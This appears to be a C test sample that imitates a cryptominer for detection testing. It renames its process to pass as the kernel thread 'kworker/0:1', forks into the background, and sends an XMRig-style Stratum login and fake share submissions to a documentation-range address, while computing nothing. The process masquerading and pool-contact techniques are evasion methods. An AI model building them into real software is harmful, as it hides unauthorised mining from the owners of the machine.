/* A stand-in for the miner: it takes the name of a thread of the kernel, and talks to its pool; it computes nothing. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    char answer[512];
    memset(argv[0], 0, strlen(argv[0]));
    strncpy(argv[0], "[kworker/0:1]", 14);
    prctl(PR_SET_NAME, "kworker/0:1", 0, 0, 0);
    if (fork())
        return argc - 1;
    struct sockaddr_in pool = { .sin_family = AF_INET, .sin_port = htons(3333) };
    inet_pton(AF_INET, "203.0.113.10", &pool.sin_addr);
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(fd, (struct sockaddr *)&pool, sizeof pool))
        return 1;
    const char login[] = "{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD\",\"pass\":\"shop\",\"agent\":\"XMRig/6.16.4\",\"algo\":[\"rx/0\"]}}\n";
    write(fd, login, sizeof login - 1);
    for (int i = 0; i < 30; i++) {
        read(fd, answer, sizeof answer);
        const char share[] = "{\"id\":2,\"jsonrpc\":\"2.0\",\"method\":\"submit\",\"params\":{\"id\":\"1\",\"job_id\":\"j\",\"nonce\":\"d0030040\"}}\n";
        write(fd, share, sizeof share - 1);
        sleep(1);
    }
    return 0;
}
